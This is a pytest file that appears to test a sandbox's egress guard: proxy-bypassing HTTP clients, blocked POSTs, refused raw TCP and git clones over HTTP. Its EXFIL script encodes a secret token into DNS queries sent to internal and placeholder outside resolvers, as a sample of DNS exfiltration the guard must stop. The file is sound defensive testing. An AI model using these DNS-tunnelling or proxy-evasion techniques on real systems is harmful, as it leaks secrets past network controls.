"""Transparent egress against the real engine: clients that ignore the proxy variables
reach the fake outside server through the guard, and DNS never leaves the run."""

from __future__ import annotations

import secrets
import textwrap
from collections.abc import Iterator

import pytest
from docker import DockerClient

from sandbox.contracts.names import STEP_IMAGE
from sandbox.contracts.record import RunStatus
from sandbox.policy import stub_reply
from tests.conftest import WorkflowFactory
from tests.fakes.harness import ALIAS, Outside, outside_server
from tests.polling import wait_for
from tests.scenarios.egressparts import fake_resolver, run_step

pytestmark = pytest.mark.engine

EGRESS_TOML = """
[egress]
allow = [{ host = "outside.test", port = 8080 }]
"""

# Each client: an allow-listed GET, a POST to the same host, a GET to a host not on
# the list; every one with the proxy variables ignored or removed.
CLIENTS = r"""
import json, os, subprocess, urllib.request, urllib.error
for var in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"):
    os.environ.pop(var, None)
out = {}
def run(*argv):
    done = subprocess.run(argv, capture_output=True, text=True, timeout=30)
    return done.stdout
def curl(method, url):
    text = run("curl", "-sS", "--noproxy", "*", "--max-time", "10", "-X", method,
               *(["--data", "secret-post-body"] if method == "POST" else []),
               "-w", "\n%{http_code}", url)
    body, _, code = text.rpartition("\n")
    return [int(code or 0), body]
def urllib_(method, url):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    data = b"secret-post-body" if method == "POST" else None
    try:
        with opener.open(urllib.request.Request(url, data=data, method=method), timeout=10) as r:
            return [r.status, r.read().decode()]
    except urllib.error.HTTPError as exc:
        return [exc.code, exc.read().decode()]
NODE_FETCH = '''
const [method, url] = process.argv.slice(1);
fetch(url, {method, body: method === "POST" ? "secret-post-body" : undefined})
  .then(async r => console.log(JSON.stringify([r.status, await r.text()])))
  .catch(e => console.log(JSON.stringify([0, String(e.cause || e)])));
'''
NODE_HTTP = '''
const http = require("http");
const [method, url] = process.argv.slice(1);
const req = http.request(url, {method}, r => {
  let body = ""; r.on("data", c => body += c);
  r.on("end", () => console.log(JSON.stringify([r.statusCode, body])));
});
req.on("error", e => console.log(JSON.stringify([0, String(e)])));
if (method === "POST") req.write("secret-post-body");
req.end();
'''
def wget(method, url):
    done = subprocess.run(["wget", "-O", "-", "--no-proxy", "--content-on-error",
                           "--server-response", "--tries=1", "--timeout=10",
                           *(["--post-data=secret-post-body"] if method == "POST" else []), url],
                          capture_output=True, text=True, timeout=30)
    codes = [int(w.split()[1]) for w in done.stderr.splitlines() if w.strip().startswith("HTTP/")]
    return [codes[-1] if codes else 0, done.stdout]
AIOHTTP = '''
import asyncio, json, sys
import aiohttp
async def main(method, url):
    async with aiohttp.ClientSession() as session:  # trust_env off: the proxy is not used
        data = b"secret-post-body" if method == "POST" else None
        async with session.request(method, url, data=data) as r:
            print(json.dumps([r.status, await r.text()]))
asyncio.run(main(*sys.argv[1:]))
'''
def aiohttp_(method, url):
    done = subprocess.run(["python3", "-c", AIOHTTP, method, url], capture_output=True,
                          text=True, timeout=30)
    return json.loads(done.stdout) if done.stdout.strip() else [0, done.stderr[-200:]]
def node(script, method, url):
    text = run("node", "-e", script, method, url).strip()
    return json.loads(text) if text else [0, "no output"]
clients = {
    "curl": curl,
    "urllib": urllib_,
    "node_fetch": lambda m, u: node(NODE_FETCH, m, u),
    "node_http": lambda m, u: node(NODE_HTTP, m, u),
    "wget": wget,
    "aiohttp": aiohttp_,
}
for name, fetch in clients.items():
    out[name] = {
        "get": fetch("GET", f"http://outside.test:8080/page-{name}"),
        "post": fetch("POST", f"http://outside.test:8080/effect-{name}"),
        "other": fetch("GET", f"http://not-allowed-{name.replace('_', '-')}.test:8080/x"),
    }
print(json.dumps(out))
"""


def test_clients_that_ignore_the_proxy_read_through_the_guard(
    engine: DockerClient, make_workflow: WorkflowFactory, outside: Outside
) -> None:
    record, out, lines = run_step(make_workflow, outside, CLIENTS, EGRESS_TOML, timeout_s=120)
    assert record.status is RunStatus.PASSED, record.stderr.text
    names = ("curl", "urllib", "node_fetch", "node_http", "wget", "aiohttp")
    for name in names:
        got = out[name]
        assert got["get"] == [200, f"hello from outside /page-{name}"], (name, got)
        status, body = got["post"]
        assert status == 403, (name, got)
        assert body.strip() == stub_reply(
            "HTTP POST", "HTTP POST can have effects; only GET and HEAD pass"
        ), name
        host = f"not-allowed-{name.replace('_', '-')}.test"
        assert got["other"][0] == 403 and "not on the egress allow list" in got["other"][1]
        assert record.egress[host].stubbed == 1, name
    # The outside world saw exactly the reads.
    seen = [(s["method"], s["path"]) for s in outside.seen() if s["proto"] == "http"]
    assert sorted(seen) == sorted(("GET", f"/page-{n}") for n in names)
    http = [ln for ln in lines if ln.tool == "http"]
    assert http and all(ln.detail["via"] == "direct" for ln in http)
    assert all(ln.detail["destination"].startswith("198.18.") for ln in http)
    assert record.egress[ALIAS].passed == len(names)
    assert record.egress[ALIAS].stubbed == len(names)
    # Every lookup is on the record, under the name the step asked for.
    asked = {ln.arguments["name"] for ln in lines if ln.tool == "dns"}
    assert {ALIAS, *(f"not-allowed-{n.replace('_', '-')}.test" for n in names)} <= asked


@pytest.fixture
def outside(engine: DockerClient) -> Iterator[Outside]:
    with outside_server(engine) as server:
        yield server


EXFIL = r"""
import json, socket, struct
SECRET = "s3cr3tt0k3n"
out = {}
def query(name, qtype, server=("127.0.0.11", 53), tcp=False):
    packet = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0)
    packet += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    packet += struct.pack("!HH", qtype, 1)
    try:
        if tcp:
            with socket.create_connection(server, timeout=5) as s:
                s.sendall(struct.pack("!H", len(packet)) + packet)
                reply = s.recv(4096)[2:]
        else:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.settimeout(5)
                s.sendto(packet, server)
                reply = s.recv(4096)
        return {"rcode": reply[3] & 0xF, "answers": struct.unpack("!H", reply[6:8])[0]}
    except OSError as exc:
        return {"error": type(exc).__name__}
for qtype, code in (("A", 1), ("AAAA", 28), ("TXT", 16), ("MX", 15)):
    out[qtype] = query(f"{SECRET}-{qtype.lower()}.anything", code)
out["tcp"] = query(f"{SECRET}-tcp.anything", 1, tcp=True)
out["outside_udp"] = query(f"{SECRET}-out.anything", 16, server=("RESOLVER_V4", 53))
out["outside_tcp"] = query(f"{SECRET}-outtcp.anything", 16, server=("RESOLVER_V4", 53), tcp=True)
out["getaddrinfo"] = sorted({i[4][0] for i in socket.getaddrinfo(f"{SECRET}-gai.anything", 80)})
print(json.dumps(out))
"""


def test_dns_exfiltration_gets_nothing_out_and_every_try_is_recorded(
    engine: DockerClient, make_workflow: WorkflowFactory, outside: Outside
) -> None:
    with fake_resolver(engine, outside.network) as resolver:
        source = textwrap.dedent(EXFIL).replace("RESOLVER_V4", resolver.ipv4)
        record, out, lines = run_step(make_workflow, outside, source, EGRESS_TOML)
        assert record.status is RunStatus.PASSED, record.stderr.text
        assert resolver.queries() == []  # nothing reached the outside resolver
    assert out["A"] == {"rcode": 0, "answers": 1}
    assert out["AAAA"] == {"rcode": 0, "answers": 0}
    assert out["TXT"]["rcode"] == 5 and out["MX"]["rcode"] == 5  # REFUSED
    assert out["tcp"] == {"rcode": 0, "answers": 1}
    assert out["outside_udp"]["rcode"] == 5 and out["outside_tcp"]["rcode"] == 5
    assert all(a.startswith("198.18.") for a in out["getaddrinfo"])
    assert outside.seen() == []
    asked = {(ln.arguments["name"], ln.arguments["type"]) for ln in lines if ln.tool == "dns"}
    for name, qtype in (
        ("s3cr3tt0k3n-a.anything", "A"),
        ("s3cr3tt0k3n-aaaa.anything", "AAAA"),
        ("s3cr3tt0k3n-txt.anything", "TXT"),
        ("s3cr3tt0k3n-mx.anything", "MX"),
        ("s3cr3tt0k3n-tcp.anything", "A"),
        ("s3cr3tt0k3n-out.anything", "TXT"),
        ("s3cr3tt0k3n-outtcp.anything", "TXT"),
        ("s3cr3tt0k3n-gai.anything", "A"),
    ):
        assert (name, qtype) in asked, (name, qtype, asked)


OTHER = r"""
import json, socket, hashlib
out = {}
s = socket.create_connection(("OUTSIDE_V4", 8082), timeout=10)
s.sendall(b"\x00\x01not-http-or-tls")
s.settimeout(10)
try:
    out["read"] = len(s.recv(100))
except OSError as exc:
    out["read"] = type(exc).__name__
out["sha"] = hashlib.sha256(b"\x00\x01not-http-or-tls").hexdigest()
print(json.dumps(out))
"""


def test_other_protocols_are_refused_recorded_and_closed(
    engine: DockerClient, make_workflow: WorkflowFactory, outside: Outside
) -> None:
    record, out, lines = run_step(make_workflow, outside, OTHER, EGRESS_TOML)
    assert record.status is RunStatus.PASSED, record.stderr.text
    assert out["read"] in (0, "ConnectionResetError")  # closed at once, not left hanging
    refused = [ln for ln in lines if ln.tool == "http" and ln.arguments.get("method") == "TCP"]
    assert len(refused) == 1 and refused[0].decision == "refuse"
    assert refused[0].arguments["first_sha256"] == out["sha"]
    assert refused[0].detail["destination"] == f"{outside.ipv4}:8082"
    assert outside.raw() == []


GIT_SERVER = r"""
set -eu
export HOME=/tmp GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b
git init -q /tmp/work && cd /tmp/work
echo hello-from-git > README
git add README && git commit -qm init
mkdir /tmp/srv && git clone -q --bare /tmp/work /tmp/srv/repo.git
cd /tmp/srv/repo.git && git update-server-info
cd /tmp/srv && exec python3 -u -m http.server 8000
"""

GIT_STEP = r"""
import json, os, subprocess
env = {k: v for k, v in os.environ.items() if "proxy" not in k.lower()}
env["HOME"] = "/tmp"
done = subprocess.run(["git", "clone", "-q", "http://GIT_HOST:8000/repo.git", "/tmp/clone"],
                      capture_output=True, text=True, env=env, timeout=60)
readme = open("/tmp/clone/README").read() if done.returncode == 0 else done.stderr[-300:]
print(json.dumps({"rc": done.returncode, "readme": readme}))
"""


def test_git_clone_reads_through_the_guard(
    engine: DockerClient, make_workflow: WorkflowFactory, outside: Outside
) -> None:
    """git (libcurl, the proxy variables removed) clones an allow-listed repository over
    the dumb HTTP protocol, GETs only, each one intercepted and recorded."""
    name = f"sandbox-fake-git-{secrets.token_hex(4)}"
    server = engine.containers.run(
        STEP_IMAGE,
        ["sh", "-c", GIT_SERVER],
        name=name,
        user="10001:10001",
        labels={"sandbox.fake": "1"},
        network=outside.network,
        detach=True,
    )
    try:
        wait_for(lambda: b"Serving HTTP" in server.logs(), 60, "the fake git server")
        toml = f'[egress]\nallow = [{{ host = "{name}", port = 8000 }}]\n'
        source = GIT_STEP.replace("GIT_HOST", name)
        record, out, lines = run_step(make_workflow, outside, source, toml, timeout_s=120)
    finally:
        server.remove(force=True)
    assert record.status is RunStatus.PASSED, record.stderr.text
    assert out == {"rc": 0, "readme": "hello-from-git\n"}, out
    http = [ln for ln in lines if ln.tool == "http"]
    assert http and all(ln.detail["via"] == "direct" for ln in http)
    assert all(ln.arguments["method"] == "GET" and ln.decision == "allow" for ln in http)
    assert record.egress[name].direct == len(http) and record.egress[name].proxy == 0
